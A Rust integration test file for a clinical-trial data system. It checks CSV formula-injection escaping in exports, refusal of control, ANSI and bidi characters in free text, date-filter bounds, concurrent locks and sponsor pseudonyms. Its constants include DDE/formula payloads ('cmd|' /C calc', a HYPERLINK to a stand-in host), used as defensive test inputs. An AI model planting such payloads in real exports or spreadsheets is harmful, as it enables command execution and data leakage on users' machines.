//! Hardening of exports, monitoring and free text (issue 16): CSV formula injection, free
//! text with control or invisible characters, duplicate locks and verifications under
//! concurrency, out-of-range export filters, and what sponsors see of investigators.

use std::collections::HashMap;

use casebook::auth::Role;
use reqwest::Method;
use serde_json::{json, Value};

use crate::clinical::{enrolled, injection};
use crate::exports::{fetch, parse_csv};
use crate::helpers::{TestApp, PASSWORD};

/// The CSV at `path` as maps column -> value.
async fn csv_records(app: &TestApp, path: &str, token: &str) -> Vec<HashMap<String, String>> {
    let raw = fetch(app, path, token).await;
    assert_eq!(raw.status, 200, "{path}: {}", raw.text());
    let rows = parse_csv(&raw.text());
    let header = rows[0].clone();
    rows[1..]
        .iter()
        .map(|r| header.iter().cloned().zip(r.iter().cloned()).collect())
        .collect()
}

const LOT: &str = "=HYPERLINK(\"http://x.example/\"&A1,\"L7\")";
const TERM: &str = "+cmd|' /C calc'!A0";
const MEDDRA_TERM: &str = "-2+3";
const QUERY: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

#[actix_web::test]
async fn csv_exports_neutralise_formulas_and_other_formats_keep_the_text() {
    let app = TestApp::spawn().await;
    app.site("FRA", "Europe/Paris");
    let inv = app.token(Role::Investigator, &["FRA"]).await;
    let monitor = app.token(Role::Monitor, &["FRA"]).await;
    let sponsor = app.token(Role::Sponsor, &[]).await;
    let code = enrolled(&app, &inv, "FRA").await;
    let mut day1 = injection(1, "2026-10-05T06:00:00Z", 40.0);
    day1["lot_number"] = json!(LOT);
    let r = app
        .post(&format!("/api/v1/subjects/{code}/injections"), &inv, &day1)
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let injection_id = r.body["id"].as_i64().unwrap();
    // before the first dose: a negative study day, which must stay a number
    let r = app
        .post(
            &format!("/api/v1/subjects/{code}/adverse-events"),
            &inv,
            &json!({"term": TERM, "meddra_term": MEDDRA_TERM, "onset_date": "2026-10-03",
                    "grade": 1, "serious": false, "relationship": "unlikely",
                    "action_taken": "none", "outcome": "recovering",
                    "awareness_date": "2026-10-03"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let ae_id = r.body["id"].as_i64().unwrap();
    let r = app
        .post(
            "/api/v1/queries",
            &monitor,
            &json!({"record_type": "injections", "record_id": injection_id, "text": QUERY}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);

    let inj = csv_records(&app, "/api/v1/exports/injections.csv", &sponsor).await;
    assert_eq!(inj[0]["lot_number"], format!("'{LOT}"));
    assert_eq!(inj[0]["dose_mg"], "40.00", "numbers are not touched");
    let aes = csv_records(&app, "/api/v1/exports/adverse_events.csv", &sponsor).await;
    assert_eq!(aes[0]["term"], format!("'{TERM}"));
    assert_eq!(aes[0]["meddra_term"], format!("'{MEDDRA_TERM}"));
    let queries = csv_records(&app, "/api/v1/exports/queries.csv", &sponsor).await;
    assert_eq!(queries[0]["opened_text"], format!("'{QUERY}"));
    let ex = csv_records(&app, "/api/v1/exports/sdtm/ex.csv", &sponsor).await;
    assert_eq!(ex[0]["EXLOT"], format!("'{LOT}"));
    let ae = csv_records(&app, "/api/v1/exports/sdtm/ae.csv", &sponsor).await;
    assert_eq!(ae[0]["AETERM"], format!("'{TERM}"));
    assert_eq!(ae[0]["AEDECOD"], format!("'{MEDDRA_TERM}"));
    assert_eq!(ae[0]["AESTDY"], "-2", "a negative number stays a number");
    let ds = csv_records(&app, "/api/v1/exports/sdtm/ds.csv", &sponsor).await;
    assert_eq!(ds[0]["DSSTDY"], "-4");

    // JSON and ODM carry the exact text
    let r = app
        .get(
            &format!("/api/v1/subjects/{code}/adverse-events/{ae_id}"),
            &sponsor,
        )
        .await;
    assert_eq!(r.body["term"], TERM);
    assert_eq!(r.body["meddra_term"], MEDDRA_TERM);
    let odm = fetch(&app, "/api/v1/exports/odm.xml", &sponsor).await;
    assert_eq!(odm.status, 200);
    let xml = odm.text();
    assert!(xml.contains(&format!("Value=\"{TERM}\"")), "{xml}");
    assert!(!xml.contains(&format!("'{TERM}")));
}

#[actix_web::test]
async fn an_export_filter_date_out_of_range_is_refused_before_streaming() {
    let app = TestApp::spawn().await;
    app.site("FRA", "Europe/Paris");
    let inv = app.token(Role::Investigator, &["FRA"]).await;
    enrolled(&app, &inv, "FRA").await;
    let sponsor = app.token(Role::Sponsor, &[]).await;
    for (query, field) in [
        ("from=-0001-01-01", "from"),
        ("to=-2026-10-05", "to"),
        ("from=0000-06-01", "from"),
        ("to=%2B10000-01-01", "to"),
        ("from=2026-10-01&to=%2B262142-12-31", "to"),
    ] {
        for form in ["temperatures", "subjects"] {
            let r = app
                .get(&format!("/api/v1/exports/{form}.csv?{query}"), &sponsor)
                .await;
            r.assert_problem(422, Some(field));
        }
    }
    assert_eq!(
        app.count("SELECT count(*) AS n FROM audit_log WHERE action = 'export'"),
        0,
        "nothing was exported"
    );
    // the edges still work
    let raw = fetch(
        &app,
        "/api/v1/exports/subjects.csv?from=0001-01-01&to=9999-12-31",
        &sponsor,
    )
    .await;
    assert_eq!(raw.status, 200);
    assert_eq!(parse_csv(&raw.text()).len(), 2, "{}", raw.text());
}

/// The statuses of `n` identical requests sent at once, sorted.
async fn at_once(
    app: &TestApp,
    n: usize,
    path: &str,
    token: &str,
    body: Option<&Value>,
) -> Vec<u16> {
    let sends = (0..n).map(|_| app.request(Method::POST, path, Some(token), body, &[]));
    let mut statuses = Vec::new();
    for r in futures_util::future::join_all(sends).await {
        if r.status != 201 && r.status != 200 {
            r.assert_problem(409, None);
        }
        statuses.push(r.status.as_u16());
    }
    statuses.sort_unstable();
    statuses
}

#[actix_web::test]
async fn identical_locks_and_verifications_sent_at_once_leave_one_active() {
    let app = TestApp::spawn().await;
    app.site("FRA", "Europe/Paris");
    let inv = app.token(Role::Investigator, &["FRA"]).await;
    let code = enrolled(&app, &inv, "FRA").await;
    let r = app
        .post(
            &format!("/api/v1/subjects/{code}/temperatures"),
            &inv,
            &json!({"measured_at": "2026-10-05T08:00:00Z", "celsius": 37.5, "method": "oral"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let temp = r.body["id"].as_i64().unwrap();
    let monitor = app.token(Role::Monitor, &["FRA"]).await;
    let admin = app.token(Role::Admin, &[]).await;

    let verify = format!("/api/v1/subjects/{code}/temperatures/{temp}/verify");
    let statuses = at_once(&app, 10, &verify, &monitor, None).await;
    assert_eq!(statuses, [&[200][..], &[409; 9][..]].concat());
    assert_eq!(
        app.count("SELECT count(*) AS n FROM verifications WHERE cleared_at IS NULL"),
        1
    );
    assert_eq!(
        app.count("SELECT count(*) AS n FROM audit_log WHERE action = 'verify'"),
        1
    );

    for (scope, target) in [
        ("subject", json!(code)),
        ("site", json!("FRA")),
        ("study", Value::Null),
    ] {
        let body =
            json!({"scope": scope, "target": target, "reason": "database lock before analysis"});
        let statuses = at_once(&app, 10, "/api/v1/locks", &admin, Some(&body)).await;
        assert_eq!(statuses, [&[201][..], &[409; 9][..]].concat(), "{scope}");
        assert_eq!(
            app.count(&format!(
                "SELECT count(*) AS n FROM locks WHERE unlocked_at IS NULL AND scope = '{scope}'"
            )),
            1,
            "{scope}"
        );
    }
    assert_eq!(
        app.count("SELECT count(*) AS n FROM audit_log WHERE action = 'lock'"),
        3
    );
    // the message of the check that saw it first, whoever lost the race
    let r = app
        .post(
            "/api/v1/locks",
            &admin,
            &json!({"scope": "study", "reason": "again"}),
        )
        .await;
    r.assert_problem(409, None);
    assert_eq!(r.body["detail"], "That study is already locked.");
}

#[actix_web::test]
async fn free_text_must_be_visible_without_controls_or_bidi_overrides() {
    let app = TestApp::spawn().await;
    app.site("FRA", "Europe/Paris");
    let inv = app.token(Role::Investigator, &["FRA"]).await;
    let monitor = app.token(Role::Monitor, &["FRA"]).await;
    let admin = app.token(Role::Admin, &[]).await;
    let code = enrolled(&app, &inv, "FRA").await;
    let r = app
        .post(
            &format!("/api/v1/subjects/{code}/temperatures"),
            &inv,
            &json!({"measured_at": "2026-10-05T08:00:00Z", "celsius": 37.5, "method": "oral"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let temp = format!("/api/v1/subjects/{code}/temperatures/{}", r.body["id"]);
    let event = |term: &str, meddra_term: &str| {
        json!({"term": term, "meddra_term": meddra_term, "onset_date": "2026-10-06", "grade": 1,
               "serious": false, "relationship": "unlikely", "action_taken": "none",
               "outcome": "recovering", "awareness_date": "2026-10-06"})
    };
    let aes = format!("/api/v1/subjects/{code}/adverse-events");
    let audit_rows = app.count("SELECT count(*) AS n FROM audit_log");

    let bell = app
        .patch(&temp, &inv, 1, &json!({"celsius": 37.6, "reason": "\u{7}"}))
        .await;
    bell.assert_problem(422, Some("reason"));
    let blank = app
        .patch(
            &temp,
            &inv,
            1,
            &json!({"celsius": 37.6, "reason": "\u{200B}\u{200B} \u{FEFF}"}),
        )
        .await;
    blank.assert_problem(422, Some("reason"));
    let ansi = app
        .post(&aes, &inv, &event("\u{1b}[2J\u{1b}[31mRash", "Rash"))
        .await;
    ansi.assert_problem(422, Some("term"));
    let bidi = app.post(&aes, &inv, &event("Rash", "\u{202E}hsaR")).await;
    bidi.assert_problem(422, Some("meddra_term"));
    let two_lines = app
        .post(&aes, &inv, &event("Rash\nsecond line", "Rash"))
        .await;
    two_lines.assert_problem(422, Some("term"));
    let mut dose = injection(1, "2026-10-05T06:00:00Z", 40.0);
    dose["lot_number"] = json!("\u{200B}\u{2060}");
    app.post(&format!("/api/v1/subjects/{code}/injections"), &inv, &dose)
        .await
        .assert_problem(422, Some("lot_number"));
    dose["lot_number"] = json!("LOT-1");
    dose["given"] = json!(false);
    dose["not_given_reason"] = json!("refused\u{7}");
    app.post(&format!("/api/v1/subjects/{code}/injections"), &inv, &dose)
        .await
        .assert_problem(422, Some("not_given_reason"));
    app.post(
        &format!("/api/v1/subjects/{code}/consents"),
        &inv,
        &json!({"form_version": "2.0", "signed_on": "2026-10-02", "signer": "legal_representative",
                "representative_relationship": "\u{2067}mother\u{2069}", "assent": false}),
    )
    .await
    .assert_problem(422, Some("representative_relationship"));
    app.post(
        "/api/v1/queries",
        &monitor,
        &json!({"record_type": "temperatures", "record_id": 1, "text": "\u{1b}[1A\u{1b}[2K"}),
    )
    .await
    .assert_problem(422, Some("text"));
    app.post(
        "/api/v1/locks",
        &admin,
        &json!({"scope": "study", "reason": "\u{200D}"}),
    )
    .await
    .assert_problem(422, Some("reason"));
    assert_eq!(
        app.count("SELECT count(*) AS n FROM audit_log"),
        audit_rows,
        "nothing refused was written"
    );
    assert_eq!(app.count("SELECT count(*) AS n FROM locks"), 0);
    assert_eq!(
        app.count("SELECT count(*) AS n FROM form_records WHERE form_id = 'adverse_event'"),
        0
    );

    // what is stored is what was checked: trimmed, within the cap
    let padded = format!("  Rash maculo-papular{}", " ".repeat(5000));
    let r = app.post(&aes, &inv, &event(" Rash ", &padded)).await;
    assert_eq!(r.status, 201, "{}", r.text);
    assert_eq!(r.body["term"], "Rash");
    assert_eq!(r.body["meddra_term"], "Rash maculo-papular");
    assert_eq!(
        app.count(
            "SELECT count(*) AS n FROM form_records \
             WHERE form_id = 'adverse_event' AND \"values\" ->> 'meddra_term' = 'Rash maculo-papular'"
        ),
        1
    );
    // several lines, tabs, joiners and right-to-left marks are fine where they belong
    let r = app
        .post(
            "/api/v1/queries",
            &monitor,
            &json!({"record_type": "temperatures", "record_id": 1, "text": "Source:\r\n\t37.9 \u{200F}שלום"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    assert_eq!(
        r.body["messages"][0]["text"],
        "Source:\r\n\t37.9 \u{200F}שלום"
    );
}

#[actix_web::test]
async fn sponsors_see_signers_by_the_same_pseudonym_as_in_odm() {
    let app = TestApp::spawn().await;
    app.site("FRA", "Europe/Paris");
    let inv = app.token(Role::Investigator, &["FRA"]).await;
    let code = enrolled(&app, &inv, "FRA").await;
    let sign = format!("/api/v1/subjects/{code}/signatures");
    let r = app
        .post(
            &sign,
            &inv,
            &json!({"password": PASSWORD, "meaning": "approval"}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    assert_eq!(r.body["printed_name"], "Test User");
    let signer = r.body["signer_id"].as_i64().unwrap();
    let pseudonym = format!("User {signer}");
    let sponsor = app.token(Role::Sponsor, &[]).await;
    let monitor = app.token(Role::Monitor, &["FRA"]).await;
    let casebook = format!("/api/v1/subjects/{code}/casebook");

    let list = app.get(&sign, &sponsor).await;
    assert_eq!(list.status, 200);
    assert_eq!(list.body["items"][0]["printed_name"], pseudonym.as_str());
    assert_eq!(
        list.body["items"][0]["signer_id"], signer,
        "the id is the pseudonym, as USR.<id> in ODM"
    );
    assert!(!list.text.contains("Test User"), "{}", list.text);
    let book = app.get(&casebook, &sponsor).await;
    assert_eq!(book.status, 200);
    assert_eq!(
        book.body["monitoring"]["signatures"][0]["printed_name"],
        pseudonym.as_str()
    );
    assert!(!book.text.contains("Test User"), "{}", book.text);
    let odm = fetch(&app, "/api/v1/exports/odm.xml", &sponsor).await;
    let xml = odm.text();
    assert!(
        xml.contains(&format!("<UserRef UserOID=\"USR.{signer}\"/>")),
        "{xml}"
    );
    assert!(
        xml.contains(&format!(
            "<DisplayName>{pseudonym} (investigator)</DisplayName>"
        )),
        "{xml}"
    );
    assert!(!xml.contains("Test User"));

    // the site's people still see who signed
    for token in [&inv, &monitor] {
        assert_eq!(
            app.get(&sign, token).await.body["items"][0]["printed_name"],
            "Test User"
        );
        assert_eq!(
            app.get(&casebook, token).await.body["monitoring"]["signatures"][0]["printed_name"],
            "Test User"
        );
    }
    assert_eq!(
        app.count("SELECT count(*) AS n FROM signatures WHERE printed_name = 'Test User'"),
        1,
        "the record keeps the printed name"
    );
}
